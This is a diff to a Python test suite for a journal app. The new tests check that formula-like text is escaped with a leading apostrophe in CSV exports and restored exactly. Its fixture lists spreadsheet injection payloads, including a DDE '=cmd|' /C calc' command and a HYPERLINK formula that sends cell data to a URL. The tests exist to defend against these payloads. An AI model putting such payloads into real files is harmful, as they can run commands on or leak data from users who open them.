@@ -15,7 +15,13 @@ from hypothesis import strategies as st
 from analytics import storage
 from analytics.dates import DateRange
 from analytics.entries import LocalTime, clean_text
-from analytics.export.journal_zip import export_file_name, export_journal, write_export
+from analytics.export.journal_zip import (
+    escape_text,
+    export_file_name,
+    export_journal,
+    unescape_text,
+    write_export,
+)
 from analytics.export.restoring import RestoreError, plan_restore, read_export, restore
 from sample_data import load_sample
 from tests.conftest import SAMPLE_TODAY
@@ -156,7 +162,14 @@ def test_export_holds_one_csv_per_table_the_same_rows_as_json_and_a_manifest(sou
                         ""
                         if value is None
                         else (
-                            "true" if value is True else "false" if value is False else str(value)
+                            "true"
+                            if value is True
+                            else "false"
+                            if value is False
+                            # text that looks like a formula carries one added ' in the CSV
+                            else escape_text(value)
+                            if isinstance(value, str)
+                            else str(value)
                         )
                     )
                     assert text == expected, (table, column)
@@ -476,6 +489,192 @@ def test_any_note_rating_and_offset_round_trips_exactly(notes, ratings, offset):
                     source, day=date(2025, 5, 1 + i), free_text=note, bring_next=note[::-1]
                 )
         restore(target, export_journal(source))
+        assert snapshot(target) == snapshot(source)
+    finally:
+        source.close()
+        target.close()
+
+
+# --- spreadsheet-safe CSV: formula-like text is escaped in the CSV, exact everywhere else ----
+
+FORMULAS = (
+    '=HYPERLINK("http://x"&A1)',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "'=already quoted by me",
+    "''+two apostrophes",
+    "'just an apostrophe",
+    "a = b, not a formula",
+)
+
+
+@pytest.fixture
+def formulas():
+    """A journal whose text, typed by a person, looks like spreadsheet formulas, beside real
+    negative numbers (an amount of -1.5 and an offset of -300 minutes) that must stay numbers."""
+    con = storage.connect()
+    for i, text in enumerate(FORMULAS):
+        storage.add_check_in(
+            con, when=LocalTime(datetime(2026, 1, 1 + i, 9, 0), -300), wellbeing=5, note=text
+        )
+        storage.add_reflection(con, day=date(2026, 1, 1 + i), free_text=text, bring_next=text)
+    storage.add_trigger_category(con, "@SUM(1+1)")
+    storage.add_trigger(
+        con,
+        when=datetime(2026, 2, 1, 18, 0),
+        category="@SUM(1+1)",
+        what_happened="=1+1",
+        intensity=3,
+        response="-2+3",
+    )
+    storage.add_practice(con, "+1 walk", "=cmd|' /C calc'!A0", 3)
+    storage.log_practice(con, when=datetime(2026, 2, 2, 7, 0), practice="+1 walk", amount=-1.5)
+    yield con
+    con.close()
+
+
+def csv_rows(data: bytes, table: str) -> list[dict[str, str]]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode("utf-8"))))
+
+
+def test_formula_like_text_is_written_to_the_csv_with_one_apostrophe_in_front(formulas):
+    exported = export_journal(formulas)
+
+    notes = [row["note"] for row in csv_rows(exported, "check_ins")]
+    expected = [
+        text if text[0] in "'a" and text[1] not in "'=+-@" else "'" + text for text in FORMULAS
+    ]
+    assert notes == expected
+    assert notes[0] == '\'=HYPERLINK("http://x"&A1)'
+    assert notes[5] == "''=already quoted by me" and notes[6] == "'''+two apostrophes"
+    assert notes[7] == "'just an apostrophe" and notes[8] == "a = b, not a formula"
+    [trigger] = csv_rows(exported, "triggers")
+    assert (trigger["category"], trigger["what_happened"], trigger["response"]) == (
+        "'@SUM(1+1)",
+        "'=1+1",
+        "'-2+3",
+    )
+    practice = next(r for r in csv_rows(exported, "practices") if r["name"].endswith("walk"))
+    assert practice["name"] == "'+1 walk" and practice["description"] == "'=cmd|' /C calc'!A0"
+    assert "'@SUM(1+1)" in [r["name"] for r in csv_rows(exported, "trigger_categories")]
+    # Numbers are numbers: decided by the column's type, not by the text.
+    [log] = csv_rows(exported, "practice_log")
+    assert log["amount"] == "-1.5"
+    assert {r["utc_offset_min"] for r in csv_rows(exported, "check_ins")} == {"-300"}
+    # No text cell of any CSV starts a formula.
+    for table in TABLES:
+        for row in csv_rows(exported, table):
+            for column, cell in row.items():
+                if column not in ("amount", "utc_offset_min", "wellbeing", "anxiety", "energy"):
+                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (table, column, cell)
+
+
+def test_journal_json_keeps_the_text_exact_and_the_manifest_names_the_escape(formulas):
+    exported = export_journal(formulas)
+
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
+        manifest = json.loads(archive.read("manifest.json"))
+        document = json.loads(archive.read("journal.json"))
+    assert manifest["csv_text_escape"] == "leading-apostrophe"
+    assert [row["note"] for row in document["tables"]["check_ins"]] == list(FORMULAS)
+    assert document["tables"]["practice_log"][0]["amount"] == -1.5
+
+
+def test_formula_like_text_restores_exactly_from_the_csv_files(formulas, journal):
+    restore(journal, export_journal(formulas))
+
+    assert snapshot(journal) == snapshot(formulas)
+    notes = [
+        r[0] for r in journal.execute("SELECT note FROM check_ins ORDER BY local_time").fetchall()
+    ]
+    assert notes == list(FORMULAS)
+
+
+def json_only(data: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(buffer, "w") as out:
+        for name in ("manifest.json", "journal.json"):
+            out.writestr(name, archive.read(name))
+    return buffer.getvalue()
+
+
+def test_formula_like_text_restores_exactly_from_journal_json(formulas, journal):
+    restore(journal, json_only(export_journal(formulas)))
+
+    assert snapshot(journal) == snapshot(formulas)
+
+
+def test_an_older_export_without_the_escape_mark_restores_its_text_unchanged(journal):
+    """Before the escape, a note typed as `'=x` was written as `'=x`: it must not lose its `'`."""
+    con = storage.connect()
+    storage.add_check_in(con, when=datetime(2026, 1, 1, 9, 0), wellbeing=5, note="'=x")
+    storage.add_check_in(con, when=datetime(2026, 1, 2, 9, 0), wellbeing=5, note="=y")
+    data = export_journal(con)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        manifest = json.loads(archive.read("manifest.json"))
+        text = archive.read("check_ins.csv").decode("utf-8")
+    del manifest["csv_text_escape"]
+    old_csv = text.replace("''=x", "'=x").replace("'=y", "=y")
+    assert "'=x" in old_csv and "\n=y" not in old_csv  # as the old export wrote them
+    old = rezip(data, replace={"manifest.json": json.dumps(manifest), "check_ins.csv": old_csv})
+
+    restore(journal, old)
+
+    notes = [
+        r[0] for r in journal.execute("SELECT note FROM check_ins ORDER BY local_time").fetchall()
+    ]
+    assert notes == ["'=x", "=y"]
+    con.close()
+
+
+def test_an_export_naming_an_unknown_escape_is_refused(formulas, journal):
+    data = export_journal(formulas)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        manifest = json.loads(archive.read("manifest.json"))
+    manifest["csv_text_escape"] = "something-newer"
+
+    with pytest.raises(RestoreError, match="csv_text_escape|CSV escape"):
+        read_export(rezip(data, replace={"manifest.json": json.dumps(manifest)}))
+    assert count(journal, "check_ins") == 0
+
+
+formula_texts = st.builds(
+    lambda quotes, lead, rest: "'" * quotes + lead + rest,
+    st.integers(0, 3),
+    st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "a", " "]),
+    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20),
+)
+
+
+@given(st.one_of(formula_texts, st.text()))
+def test_unescape_gives_back_exactly_what_escape_was_given(text):
+    escaped = escape_text(text)
+
+    assert unescape_text(escaped) == text
+    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(notes=st.lists(formula_texts, min_size=1, max_size=4), through_json=st.booleans())
+def test_any_formula_like_text_round_trips_exactly_through_csv_or_json(notes, through_json):
+    source = storage.connect()
+    target = storage.connect()
+    try:
+        for i, note in enumerate(notes):
+            storage.add_check_in(
+                source, when=datetime(2025, 5, 1 + i, 21, 30), wellbeing=5, note=note
+            )
+            if clean_text(note, "free_text"):
+                storage.add_reflection(
+                    source, day=date(2025, 5, 1 + i), free_text=note, bring_next="-" + note
+                )
+        data = export_journal(source)
+        restore(target, json_only(data) if through_json else data)
         assert snapshot(target) == snapshot(source)
     finally:
         source.close()
